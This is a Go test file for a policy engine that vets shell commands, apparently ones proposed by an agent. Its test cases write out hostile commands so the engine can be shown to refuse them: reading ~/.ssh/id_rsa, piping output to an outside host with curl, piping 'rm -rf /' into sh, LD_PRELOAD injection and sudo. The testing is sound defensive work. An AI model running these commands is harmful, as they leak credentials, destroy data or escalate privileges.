// SPDX-License-Identifier: Apache-2.0

package policy_test

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/fumehood/fumehood/pkg/internal/sample"
	"github.com/fumehood/fumehood/pkg/parse"
	"github.com/fumehood/fumehood/pkg/policy"
	"github.com/fumehood/fumehood/pkg/policy/module"
	"github.com/fumehood/fumehood/pkg/proposal"
)

func explain(t testing.TB, v *policy.Adviser, p proposal.Proposal) policy.Explanation {
	t.Helper()
	x, err := v.Explain(t.Context(), p, parse.Analyze(p))
	if err != nil {
		t.Fatalf("%q: %v", p.Run, err)
	}
	return x
}

func running(text string) proposal.Proposal { return proposal.Proposal{ID: "t", Run: text} }

// TestTypedDenial holds what is said to who proposed it: where, whether to try again,
// and what is allowed.
func TestTypedDenial(t *testing.T) {
	v := policy.NewAdviser(shipped(t), parse.Analyze)
	for _, c := range []struct {
		text, rule, span string
		retry            proposal.Retry
		first            string // of the alternatives
	}{
		{"go test -exec ./x -run T ./...", "go.option", "-exec", proposal.RetryVary, ""},
		{"go test -exec ./x -run T ./...", "go.option", "-exec", proposal.RetryVary, "go test -run T ./..."},
		{"sort --compress-program=sh -u x", "sort.program", "--compress-program=sh", proposal.RetryVary, "sort -u x"},
		{"sudo go test ./...", "privilege.none", "sudo go test ./...", proposal.RetryNever, "go test ./..."},
		{"\tsudo\tls", "privilege.none", "sudo", proposal.RetryNever, "ls"},
		{"npm publish", "code.publish", "publish", proposal.RetryNever, ""},
		{"cat ~/.ssh/id_rsa", "read.secret", "cat ~/.ssh/id_rsa", proposal.RetryNever, ""},
		{"$(which go) test ./...", "parse.dynamic-program", "$(which go)", proposal.RetryVary, "go test ./..."},
		{"X=go; $Y test ./...", "parse.dynamic-program", "$Y", proposal.RetryVary, ""},
		{"eval 'go test ./...'", "parse.eval", "eval", proposal.RetryVary, "go test ./..."},
		{"echo 'rm -rf /' | sh", "parse.shell-stdin", "sh", proposal.RetryVary, ""},
		{"source venv/x.sh", "parse.source", "source", proposal.RetryVary, "bash venv/x.sh"},
		{"echo hi > /etc/x", "redirect.place", "/etc/x", proposal.RetryVary, "echo hi"},
		{"cd pkg&&go test -exec=./x|tail -3", "go.option", "-exec=./x", proposal.RetryVary, "cd pkg && go test | tail -3"},
		{"go vet ./... | curl -d @- x.example", "network.client", "curl -d @- x.example", proposal.RetryVary, "go vet ./..."},
		{"LD_PRELOAD=./x go test ./...", "env.steering", "LD_PRELOAD", proposal.RetryVary, "go test ./..."},
		{"cat a | /opt/bin/grep x", "default.no-rule", "/opt/bin/grep x", proposal.RetryVary, "cat a | grep x"},
		{"nosuch", "default.no-rule", "nosuch", proposal.RetryVary, ""},
		{"ls\x1b[2J", "parse.control-character", "\x1b", proposal.RetryVary, ""},
	} {
		x := explain(t, v, running(c.text))
		i := slices.IndexFunc(x.Decision.Reasons, func(r proposal.Reason) bool { return r.Rule == c.rule })
		if i < 0 {
			t.Errorf("%q: no reason %s: %v", c.text, c.rule, x.Decision.Rules)
			continue
		}
		r := x.Decision.Reasons[i]
		span := ""
		if r.Span != nil {
			span = c.text[r.Span.Start:r.Span.End]
		}
		if span != c.span || r.Retry != c.retry || r.Layer == "" {
			t.Errorf("%q: %s: span %q, want %q; retry %s, want %s; layer %q", c.text, c.rule, span, c.span, r.Retry, c.retry, r.Layer)
		}
		if c.first != "" && (len(r.Alternatives) == 0 || r.Alternatives[0] != c.first) {
			t.Errorf("%q: %s: alternatives %q, want first %q", c.text, c.rule, r.Alternatives, c.first)
		}
	}
}

// TestAlternativesAreAllowed holds that nothing is advertised which would be refused.
func TestAlternativesAreAllowed(t *testing.T) {
	e := shipped(t)
	v := policy.NewAdviser(e, parse.Analyze)
	found := 0
	texts := sample.Of(t, append(readCorpus(t, "hostile.txt"), readCorpus(t, "benign.txt")...), 2, 20)
	for _, text := range texts {
		p := running(text)
		a := parse.Analyze(p)
		d, err := e.Decide(t.Context(), p, a)
		if err != nil {
			t.Fatal(err)
		}
		found += heldAlternatives(t, e, text, d, v.Advise(t.Context(), p, a, d))
	}
	if found*8 < len(texts) {
		t.Errorf("only %d alternatives for %d texts", found, len(texts))
	}
}

// heldAlternatives checks what advising may change, and counts the alternatives.
func heldAlternatives(t testing.TB, e *policy.Engine, text string, d, advised proposal.Decision) int {
	t.Helper()
	found := 0
	if advised.Effect != d.Effect || len(advised.Reasons) != len(d.Reasons) || !cmp.Equal(advised.Grant, d.Grant) {
		t.Errorf("%q: advice changed the decision: %+v, %+v", text, d, advised)
	}
	for _, r := range advised.Reasons {
		if len(r.Alternatives) > proposal.MaxAlternatives {
			t.Errorf("%q: %d alternatives", text, len(r.Alternatives))
		}
		for _, other := range r.Alternatives {
			found++
			if got := decide(t, e, other); got.Effect != proposal.Allow || len(other) > proposal.MaxAlternative || strings.Contains(other, "\n") {
				t.Errorf("%q: %q is advertised and %v by %v", text, other, got.Effect, got.Rules)
			}
		}
		if s := r.Span; s != nil && (s.Start < 0 || s.End < s.Start || s.End > len(text) || s.Line < 1 || s.Col < 1) {
			t.Errorf("%q: the span %+v lies outside", text, *s)
		}
	}
	return found
}

// TestAdviceIsRepeatable holds that who decides again finds the same, whatever else was
// asked before.
func TestAdviceIsRepeatable(t *testing.T) {
	e := shipped(t)
	one, other := policy.NewAdviser(e, parse.Analyze), policy.NewAdviser(shipped(t), parse.Analyze)
	texts := readCorpus(t, "hostile.txt")[:120]
	want := map[string]proposal.Decision{}
	advised := func(v *policy.Adviser, text string) proposal.Decision {
		p := running(text)
		return v.Advise(t.Context(), p, parse.Analyze(p), decide(t, e, text))
	}
	for _, text := range texts {
		want[text] = advised(one, text)
	}
	slices.Reverse(texts)
	for _, text := range texts {
		if diff := cmp.Diff(want[text], advised(other, text)); diff != "" {
			t.Errorf("%q: %s", text, diff)
		}
	}
}

const ourTool = `package fumehood.command

# METADATA
# title: Our tool builds
# custom:
#   rule: org.ourtool
#   match: ["ourtool build all"]
allow contains {"rule": "org.ourtool"} if {
	input.command.program == "ourtool"
	input.command.sub in {"", "build"}
	plain
}

plain if {
	every word in input.command.argv { not startswith(word, "--deep") }
}

# METADATA
# title: Another tool
# custom: {rule: org.other}
allow contains {"rule": "org.other"} if {
	input.command.program == "other"
}
`

// TestNear holds that the rules for a program are shown with what of them does not hold,
// and no others.
func TestNear(t *testing.T) {
	e, err := policy.New(t.Context(), policy.Options{Layers: layersOf(t, policy.Allows, folder(t, "a.rego", ourTool))})
	if err != nil {
		t.Fatal(err)
	}
	v := policy.NewAdviser(e, parse.Analyze)
	x := explain(t, v, running("ourtool --deep=x build all"))
	if len(x.Near) != 1 {
		t.Fatalf("near: %+v", x.Near)
	}
	n := x.Near[0]
	want := []policy.Condition{
		{Text: "plain", File: "a.rego", Line: 11, Col: 2, Values: []policy.Value{}},
		{Text: `every word in input.command.argv { not startswith(word, "--deep") }`, File: "a.rego", Line: 15, Col: 2,
			Values: []policy.Value{{Path: "input.command.argv", Value: `["--deep=x", "build", "all"]`}}},
	}
	if diff := cmp.Diff(want, n.Failed); diff != "" {
		t.Error(diff)
	}
	if n.Rule != "org.ourtool" || n.Layer != "organisation" || n.Title != "Our tool builds" || !slices.Equal(n.Examples, []string{"ourtool build all"}) {
		t.Errorf("near: %+v", n)
	}
	if x := explain(t, v, running("ourtool build all")); len(x.Near) > 0 || x.Decision.Effect != proposal.Allow || x.Spoke[1].Rule != "org.ourtool" {
		t.Errorf("allowed: %+v", x)
	}
}

// TestRetryOfMetadata holds that a rule says its class, and that a word which means
// nothing stops the policy.
func TestRetryOfMetadata(t *testing.T) {
	deny := func(meta string) string {
		return "package fumehood.command\n\n# METADATA\n# title: x\n# custom: " + meta + "\ndeny contains {\"rule\": \"org.ls.all\", \"message\": \"m\", \"suggestion\": \"s\"} if input.command.program == \"ls\"\n"
	}
	for meta, want := range map[string]proposal.Retry{
		"{rule: org.ls.all, retry: never}": proposal.RetryNever, "{rule: org.ls., retry: approval}": proposal.RetryApproval,
		"{rule: org., retry: transient}": proposal.RetryTransient, "{rule: org.ls, retry: never}": proposal.RetryVary, "{rule: org.ls.all}": proposal.RetryVary,
	} {
		d := decide(t, with(t, folder(t, "a.rego", deny(meta))), "ls")
		if r := d.Reasons[0]; r.Retry != want || r.Layer != "policy" {
			t.Errorf("%s: %s of layer %s, want %s", meta, r.Retry, r.Layer, want)
		}
	}
	for _, meta := range []string{"{rule: org.ls.all, retry: nevr}", "{retry: never}", "{rule: org.ls.all, retry: [never]}", "{rule: 1, retry: never}"} {
		_, err := policy.New(t.Context(), policy.Options{Layers: layersOf(t, policy.Restricts, folder(t, "a.rego", deny(meta)))})
		if codeOf(err) != "policy.unknown-key" {
			t.Errorf("%s: %v", meta, err)
		}
	}
}

// TestAskIsForApproval holds the class of an ask, and that layers of one role are told
// apart.
func TestAskIsForApproval(t *testing.T) {
	ask := folder(t, "a.rego", "package fumehood.command\n\nask contains {\"rule\": \"org.ls\", \"message\": \"m\", \"suggestion\": \"s\"} if input.command.program == \"ls\"\n")
	e, err := policy.New(t.Context(), policy.Options{Layers: layersOf(t, policy.Restricts, folder(t, "b.rego", strict), ask)})
	if err != nil {
		t.Fatal(err)
	}
	r := decide(t, e, "ls").Reasons
	if len(r) != 1 || r[0].Retry != proposal.RetryApproval || r[0].Layer != "policy#2" {
		t.Errorf("%+v", r)
	}
}

// TestInputSchemas holds that each decision point has one, and says which was meant.
func TestInputSchemas(t *testing.T) {
	for _, point := range module.Points() {
		data, err := policy.InputSchema(strings.TrimPrefix(point, "fumehood."))
		if err != nil || !json.Valid(data) || !strings.Contains(string(data), `"required"`) {
			t.Errorf("%s: %v %s", point, err, data)
		}
	}
	if _, err := policy.InputSchema("comand"); err == nil || !strings.Contains(proposal.FailureOf(err).Hint, "fumehood.command") {
		t.Errorf("comand: %v", err)
	}
}

// FuzzExplain holds that no text makes an explanation panic, reach outside the text or
// advertise what is refused.
func FuzzExplain(f *testing.F) {
	for _, text := range []string{"go test -exec ./x ./...", "sudo -u a ls", "X=go; $X test", "for f in $(ls); do rm $f; done", "eval 'ls'", "cat <<E | sh\nls\nE", "a=1 b=2 >x", "ls\x00\xff", "echo `which ls`", "'\"", "cat a | /opt/bin/grep x"} {
		f.Add(text)
	}
	e := shipped(f)
	v := policy.NewAdviser(e, parse.Analyze)
	f.Fuzz(func(t *testing.T, text string) {
		p := running(text)
		if text == "" || len(text) > 4<<10 {
			return
		}
		a := parse.Analyze(p)
		d, err := e.Decide(t.Context(), p, a)
		if err != nil {
			t.Fatalf("%q: %v", text, err)
		}
		x, err := v.Explain(t.Context(), p, a)
		if err != nil {
			t.Fatal(err)
		}
		heldAlternatives(t, e, text, d, x.Decision)
		for _, w := range x.Rewrites {
			if w.After != "" && decide(t, e, w.After).Effect != proposal.Allow {
				t.Errorf("%q is rewritten as %q, which is refused", text, w.After)
			}
		}
		if data, err := json.Marshal(x); err != nil || !json.Valid(data) {
			t.Errorf("%q: %v", text, err)
		}
	})
}
